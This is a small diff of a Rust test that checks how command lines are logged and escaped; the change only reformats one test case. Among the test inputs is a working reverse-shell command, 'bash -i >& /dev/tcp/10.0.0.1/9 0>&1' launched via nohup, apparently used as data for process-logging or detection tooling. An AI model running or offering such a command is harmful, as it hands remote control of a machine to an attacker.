@@ -124,7 +124,10 @@ fn command_line_is_argv_joined_by_spaces_kept_byte_true() {
             &["nohup", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/9 0>&1"][..],
         ),
         ("sh -c x='1'  \"y\"", &["sh", "-c", "x='1'  \"y\""][..]),
-        ("/usr/bin/nohup /tmp/it's", &["/usr/bin/nohup", "/tmp/it's"][..]),
+        (
+            "/usr/bin/nohup /tmp/it's",
+            &["/usr/bin/nohup", "/tmp/it's"][..],
+        ),
     ] {
         let escaped = logged
             .replace('&', "&amp;")
